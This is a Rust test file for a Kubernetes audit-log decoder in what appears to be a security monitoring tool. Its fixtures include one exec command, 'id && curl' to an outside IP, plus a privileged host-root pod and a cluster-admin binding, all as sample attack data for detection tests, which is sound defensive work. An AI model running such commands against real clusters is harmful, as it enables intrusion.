//! Fixtures written from the audit.k8s.io/v1 schema (see `../fixtures/README.md`), field by
//! field, and hostile input.

use super::*;
use crate::model::Outcome;

pub(crate) fn fixture(name: &str) -> &'static str {
    match name {
        "exec-request-received" => include_str!("../fixtures/exec-request-received.json"),
        "exec-response-started" => include_str!("../fixtures/exec-response-started.json"),
        "exec-response-complete" => include_str!("../fixtures/exec-response-complete.json"),
        "pod-create-request-response" => {
            include_str!("../fixtures/pod-create-request-response.json")
        }
        "deployment-update-panic" => include_str!("../fixtures/deployment-update-panic.json"),
        "secret-get-request-response" => {
            include_str!("../fixtures/secret-get-request-response.json")
        }
        "clusterrolebinding-create" => include_str!("../fixtures/clusterrolebinding-create.json"),
        "webhook-eventlist" => include_str!("../fixtures/webhook-eventlist.json"),
        other => panic!("no fixture {other}"),
    }
}

fn decode(name: &str) -> AuditRecord {
    let mut notes = Notes::default();
    let r = decode_event(fixture(name).as_bytes(), "prod", &mut notes)
        .unwrap_or_else(|e| panic!("{name}: {e}"));
    assert_eq!(notes, Notes::default(), "{name}: nothing to repair");
    r
}

/// 2026-12-04T09:15:02.123456Z
const EXEC_RECEIVED: u64 = 1_796_375_702_123_456_000;

#[test]
fn request_received_metadata_exec() {
    let r = decode("exec-request-received");
    assert_eq!(r.cluster, "prod");
    assert_eq!(r.audit_id, "5b7a5b0e-2f4c-4a8e-9d43-0c7f1c1e6a01");
    assert_eq!(r.stage, AuditStage::RequestReceived);
    assert_eq!(r.level, AuditLevel::Metadata);
    assert_eq!(r.verb, "create");
    assert_eq!(r.user.username, "alice@corp");
    assert_eq!(
        r.user.uid,
        "aws-iam-authenticator:111122223333:AROAEXAMPLEID"
    );
    assert_eq!(r.user.groups, ["devs", "system:authenticated"]);
    assert_eq!(r.impersonated_user, None);
    assert_eq!(
        r.source_ips,
        ["198.51.100.7".parse::<std::net::IpAddr>().expect("ip")]
    );
    assert_eq!(
        r.user_agent.as_deref(),
        Some("kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc")
    );
    let o = r.object.as_ref().expect("objectRef");
    assert_eq!(
        (
            o.resource.as_str(),
            o.subresource.as_deref(),
            o.namespace.as_deref()
        ),
        ("pods", Some("exec"), Some("shop"))
    );
    assert_eq!(o.name.as_deref(), Some("web-7c9f8d6b5-x2k4q"));
    assert_eq!(o.api_group, None, "the core group is absent, not empty");
    assert_eq!(o.api_version.as_deref(), Some("v1"));
    assert_eq!(r.response_code, None, "no response yet at RequestReceived");
    assert_eq!(r.request_received, EXEC_RECEIVED);
    assert_eq!(r.stage_time, EXEC_RECEIVED);
    // The command is form-encoded in the URI: `+` is a space, %XX a byte.
    let exec = r.exec.as_ref().expect("exec parameters");
    assert_eq!(exec.container, "app");
    assert_eq!(
        exec.command,
        ["sh", "-c", "id && curl -s http://203.0.113.9/x"]
    );
    assert!(exec.tty && exec.stdin);
    assert!(r.is_pod_exec());
    assert_eq!(r.resource_path(), "pods/exec");
    assert_eq!(r.pod, None);
}

#[test]
fn response_started_and_complete_carry_code_and_decision() {
    let started = decode("exec-response-started");
    assert_eq!(started.stage, AuditStage::ResponseStarted);
    assert_eq!(started.response_code, Some(101));
    assert_eq!(
        started.outcome(),
        Outcome::Success,
        "101 is the upgraded stream"
    );
    assert_eq!(started.decision.as_deref(), Some("allow"));
    assert!(started
        .decision_reason
        .as_deref()
        .is_some_and(|r| r.contains("RoleBinding \"devs-exec/shop\"")));
    assert_eq!(started.stage_time, EXEC_RECEIVED + 63_845_000);
    let complete = decode("exec-response-complete");
    assert_eq!(complete.stage, AuditStage::ResponseComplete);
    assert_eq!(
        complete.audit_id, started.audit_id,
        "one request, several stages"
    );
    assert_eq!(complete.request_received, started.request_received);
    assert_eq!(complete.stage_time, 1_796_376_100_000_912_000);
}

#[test]
fn request_response_pod_create_reads_the_spec() {
    let r = decode("pod-create-request-response");
    assert_eq!(r.level, AuditLevel::RequestResponse);
    assert_eq!(r.stage, AuditStage::ResponseComplete);
    assert_eq!(r.response_code, Some(201));
    assert_eq!(
        r.impersonated_user.as_ref().map(|u| u.username.as_str()),
        Some("bob@corp")
    );
    assert_eq!(r.user.username, "system:serviceaccount:shop:deployer");
    assert_eq!(
        r.source_ips.len(),
        2,
        "the client and the proxy it came through"
    );
    let pod = r.pod.as_ref().expect("pod facts");
    assert!(pod.privileged && pod.host_pid && pod.host_network && !pod.host_ipc);
    assert_eq!(pod.host_paths, ["/"]);
    assert_eq!(pod.images, ["alpine:3.20", "busybox:1.36"]);
    assert_eq!(r.exec, None);
    assert_eq!(r.decision_reason.as_deref(), Some(""));
}

#[test]
fn panic_stage_with_an_offset_timestamp() {
    let r = decode("deployment-update-panic");
    assert_eq!(r.stage, AuditStage::Panic);
    assert_eq!(r.response_code, Some(500));
    assert_eq!(r.response_reason.as_deref(), Some("InternalError"));
    assert_eq!(r.outcome(), Outcome::Failed);
    assert_eq!(r.stage_time - r.request_received, 250_000_000);
    let o = r.object.as_ref().expect("objectRef");
    assert_eq!(o.api_group.as_deref(), Some("apps"));
    assert_eq!(r.resource_path(), "deployments");
    // An update without a body (Metadata level) leaves the pod facts absent, not false.
    assert_eq!(r.pod, None);
}

#[test]
fn a_secrets_data_never_reaches_the_record() {
    let r = decode("secret-get-request-response");
    assert_eq!(r.resource_path(), "secrets");
    let kept = serde_json::to_string(&r).expect("json");
    let wire = crate::wire::record_to_proto(&crate::model::Record::Audit(Box::new(r)));
    let bytes = prost::Message::encode_to_vec(&wire);
    for secret in ["aHVudGVyMi1zdXBlci1zZWNyZXQ=", "hunter2"] {
        assert!(!kept.contains(secret), "{kept}");
        assert!(
            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "secret bytes in the stored form"
        );
    }
}

#[test]
fn rbac_bindings_and_roles_are_read() {
    let r = decode("clusterrolebinding-create");
    let b = r.binding.as_ref().expect("binding facts");
    assert_eq!(
        (b.role_kind.as_str(), b.role_name.as_str()),
        ("ClusterRole", "cluster-admin")
    );
    assert_eq!(
        b.subjects,
        ["ServiceAccount:shop/default", "User:/mallory@corp"]
    );
    assert_eq!(r.object.as_ref().and_then(|o| o.namespace.clone()), None);

    let role = |rules: serde_json::Value| {
        let event = serde_json::json!({
            "level": "Request", "auditID": "r", "stage": "ResponseComplete",
            "requestURI": "/apis/rbac.authorization.k8s.io/v1/clusterroles", "verb": "create",
            "user": {"username": "u"}, "requestReceivedTimestamp": "2026-01-01T00:00:00Z",
            "stageTimestamp": "2026-01-01T00:00:00Z",
            "objectRef": {"resource": "clusterroles", "apiGroup": "rbac.authorization.k8s.io", "name": "x"},
            "requestObject": {"rules": rules},
        });
        decode_event(event.to_string().as_bytes(), "c", &mut Notes::default())
            .expect("decodes")
            .role
            .expect("role facts")
    };
    let wild = role(serde_json::json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]));
    assert!(wild.wildcard && wild.pod_exec);
    let exec = role(
        serde_json::json!([{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]),
    );
    assert!(!exec.wildcard && exec.pod_exec);
    let reader = role(
        serde_json::json!([{"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get", "list"]}]),
    );
    assert!(!reader.wildcard && !reader.pod_exec);
}

#[test]
fn webhook_event_list_items_lack_api_version_and_kind() {
    let mut notes = Notes::default();
    let items = decode_event_list(fixture("webhook-eventlist").as_bytes(), "prod", &mut notes)
        .expect("the list decodes");
    let stages: Vec<AuditStage> = items
        .iter()
        .map(|i| i.as_ref().expect("every item decodes").stage)
        .collect();
    assert_eq!(
        stages,
        [
            AuditStage::RequestReceived,
            AuditStage::ResponseStarted,
            AuditStage::ResponseComplete,
            AuditStage::ResponseComplete,
            AuditStage::Panic
        ]
    );
    assert!(!fixture("webhook-eventlist").contains("\"kind\": \"Event\""));
}

#[test]
fn wrong_types_and_missing_fields_name_the_field() {
    let list = serde_json::json!({"kind": "EventList", "items": [
        serde_json::from_str::<serde_json::Value>(fixture("exec-request-received")).expect("json"),
        {"level": "Metadata", "auditID": 5, "stage": "ResponseComplete"},
        {"level": "Metadata", "auditID": "a", "stage": "Later", "requestURI": "/", "verb": "get",
         "requestReceivedTimestamp": "2026-01-01T00:00:00Z", "stageTimestamp": "2026-01-01T00:00:00Z"},
        {"level": "Metadata", "auditID": "a", "stage": "ResponseComplete", "requestURI": "/", "verb": "get",
         "requestReceivedTimestamp": "yesterday", "stageTimestamp": "2026-01-01T00:00:00Z"},
        {"level": "Metadata", "auditID": "b", "stage": "ResponseComplete", "requestURI": "/", "verb": "get",
         "user": {"groups": "admins"},
         "requestReceivedTimestamp": "2026-01-01T00:00:00Z", "stageTimestamp": "2026-01-01T00:00:00Z"},
        {"level": "Metadata", "auditID": "c", "stage": "ResponseComplete", "verb": "get",
         "requestReceivedTimestamp": "2026-01-01T00:00:00Z", "stageTimestamp": "2026-01-01T00:00:00Z"},
    ]});
    let items = decode_event_list(list.to_string().as_bytes(), "c", &mut Notes::default())
        .expect("the list's own shape is fine");
    assert!(items[0].is_ok(), "a bad item does not spoil the good one");
    let errors: Vec<String> = items[1..]
        .iter()
        .map(|i| i.as_ref().expect_err("rejected").to_string())
        .collect();
    assert!(
        errors[0].starts_with("items[1].auditID: invalid type: integer `5`"),
        "{}",
        errors[0]
    );
    assert!(
        errors[1].starts_with("items[2].stage: unknown stage \"Later\""),
        "{}",
        errors[1]
    );
    assert!(
        errors[2].starts_with("items[3].requestReceivedTimestamp:"),
        "{}",
        errors[2]
    );
    assert!(
        errors[3].starts_with("items[4].user.groups: invalid type: string"),
        "{}",
        errors[3]
    );
    assert!(
        errors[4].contains("missing field `requestURI`"),
        "{}",
        errors[4]
    );

    for (body, wanted) in [
        (&b"{\"items\": [}"[..], "items[0]: expected value"),
        (b"not json", "(document): expected ident"),
        (
            b"{\"items\": {}}",
            "items: invalid type: map, expected a sequence",
        ),
        (
            b"{\"apiVersion\": \"audit.k8s.io/v1beta1\", \"items\": []}",
            "apiVersion: \"audit.k8s.io/v1beta1\" is not audit.k8s.io/v1",
        ),
        (
            b"{\"kind\": \"PodList\", \"items\": []}",
            "kind: \"PodList\" is not an EventList",
        ),
        (
            b"{\"items\": []} trailing",
            "(document): trailing characters",
        ),
    ] {
        let e = decode_event_list(body, "c", &mut Notes::default())
            .expect_err("rejected")
            .to_string();
        assert!(e.starts_with(wanted), "{e} (wanted {wanted})");
    }
}

#[test]
fn a_nesting_bomb_is_a_clear_error_and_strings_do_not_count() {
    let depth = 100_000;
    let bomb = format!(
        "{{\"items\": [{}{}]}}",
        "{\"a\":".repeat(depth),
        "1".to_owned() + &"}".repeat(depth)
    );
    let e = decode_event_list(bomb.as_bytes(), "c", &mut Notes::default()).expect_err("bomb");
    assert!(
        matches!(
            e,
            DecodeError::TooDeep {
                limit: MAX_DEPTH,
                ..
            }
        ),
        "{e}"
    );
    assert!(
        e.to_string().contains("nested deeper than 100 levels"),
        "{e}"
    );
    // Brackets inside strings (escaped quotes too) are text, not nesting.
    let text = format!("{{\"a\": \"{}\\\"{}\"}}", "[".repeat(500), "{".repeat(500));
    assert_eq!(check_depth(text.as_bytes(), 2), Ok(()));
    assert!(check_depth(b"[[[", 2).is_err());
}

#[test]
fn client_controlled_fields_are_bounded_not_rejected() {
    let mut event: serde_json::Value =
        serde_json::from_str(fixture("exec-request-received")).expect("json");
    event["userAgent"] = serde_json::Value::String("é".repeat(10_000));
    event["sourceIPs"] = serde_json::json!(["not-an-ip", "198.51.100.7", "::1"]);
    event["auditID"] = serde_json::Value::String("chosen-by-the-client".into());
    let mut notes = Notes::default();
    let r = decode_event(event.to_string().as_bytes(), "c", &mut notes)
        .expect("an attacker's long user agent does not hide its request");
    let ua = r.user_agent.expect("kept");
    assert!(
        ua.len() < MAX_TEXT + 32 && ua.contains("…(+"),
        "{}",
        ua.len()
    );
    assert_eq!(r.source_ips.len(), 2);
    assert_eq!(notes.truncated, 1);
    assert_eq!(notes.bad_addresses, 1);
}

#[test]
fn unreadable_bodies_are_counted_and_leave_facts_absent() {
    let mut event: serde_json::Value =
        serde_json::from_str(fixture("pod-create-request-response")).expect("json");
    event["requestObject"] =
        serde_json::json!([{"op": "add", "path": "/spec/hostPID", "value": true}]);
    event["responseObject"] = serde_json::Value::Null;
    let mut notes = Notes::default();
    let r = decode_event(event.to_string().as_bytes(), "c", &mut notes).expect("decodes");
    assert_eq!(r.pod, None);
    assert_eq!(notes.unreadable_bodies, 1);
}

#[test]
fn times_format_as_the_api_server_writes_them() {
    assert_eq!(format_time(EXEC_RECEIVED), "2026-12-04T09:15:02.123456Z");
    assert_eq!(
        parse_time(&format_time(EXEC_RECEIVED + 999)),
        Some(EXEC_RECEIVED)
    );
}

#[test]
fn times_parse_as_rfc3339() {
    assert_eq!(parse_time("1970-01-01T00:00:00Z"), Some(0));
    assert_eq!(parse_time("1970-01-01T00:00:01.5Z"), Some(1_500_000_000));
    assert_eq!(parse_time("1970-01-01T01:00:00+01:00"), Some(0));
    assert_eq!(
        parse_time("2000-02-29T00:00:00Z"),
        Some(951_782_400_000_000_000)
    );
    assert_eq!(
        parse_time("2026-12-04T09:15:02.123456789123Z"),
        Some(1_796_375_702_123_456_789)
    );
    for bad in [
        "",
        "1969-12-31T23:59:59Z",
        "2026-02-29T00:00:00Z",
        "2026-13-01T00:00:00Z",
        "2026-01-01 00:00:00Z",
        "2026-01-01T00:00:00",
        "2026-01-01T00:00:00.Z",
        "2026-01-01T24:00:00Z",
        "2026-01-01T00:00:00+1:00",
        "2026-01-01T00:00:00Zjunk",
        "２０２６-01-01T00:00:00Z",
    ] {
        assert_eq!(parse_time(bad), None, "{bad}");
    }
}

proptest::proptest! {
    #[test]
    fn any_bytes_decode_or_fail_cleanly(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..512)) {
        let _ = decode_event_list(&bytes, "c", &mut Notes::default());
        let _ = decode_event(&bytes, "c", &mut Notes::default());
    }

    #[test]
    fn times_agree_with_seconds_arithmetic(secs in 0i64..4_000_000_000, micros in 0u32..1_000_000) {
        // The formatter the Falco payload uses, the parser's inverse.
        let text = crate::model::rfc3339_utc(secs as u64, u64::from(micros) * 1000);
        proptest::prop_assert_eq!(
            parse_time(&text),
            Some(secs as u64 * 1_000_000_000 + u64::from(micros) * 1000)
        );
    }
}
